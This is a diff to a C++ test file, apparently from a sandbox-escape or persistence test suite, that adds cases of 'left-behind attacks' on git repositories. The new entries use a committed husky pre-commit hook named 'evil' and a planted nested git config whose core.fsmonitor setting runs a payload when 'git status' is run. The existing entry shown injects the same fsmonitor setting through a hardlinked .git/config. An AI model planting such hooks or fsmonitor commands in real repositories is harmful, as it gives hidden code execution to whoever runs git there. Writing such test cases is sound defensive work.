@@ -5,6 +5,15 @@ namespace talaria {
 
 std::vector<LeftBehindAttack> attacks_with_links_and_strategies() {
   return {
+      {.name = "a hook committed inside and checked out",
+       .before = "git config core.hooksPath .husky",
+       .inside = {R"(evil .husky/pre-commit; git add -f .husky; git commit -qm x --no-verify; git rm -qr .husky
+git commit -qm y --no-verify; git checkout -q HEAD~1 -- .husky; ls .husky)"}},
+      {.name = "the parts in a deep folder",
+       .before = "",
+       .inside = {R"(d=x/y/z/w/v/u/t; mkdir -p $d; mkdir $d/objects $d/refs; echo 'ref: refs/heads/m' > $d/HEAD
+printf '[core]\nrepositoryformatversion=0\nbare=false\nworktree=..\nfsmonitor="%s;false"\n' "$P" > $d/config)"},
+       .after = "cd x/y/z/w/v/u/t; git status; cd refs; git status"},
       {.name = "a second name of the settings that the person made",
        .before = "ln .git/config cfg2",
        .inside = {R"(printf '[core]\nfsmonitor="%s;false"\n' "$P" >> cfg2)"}},
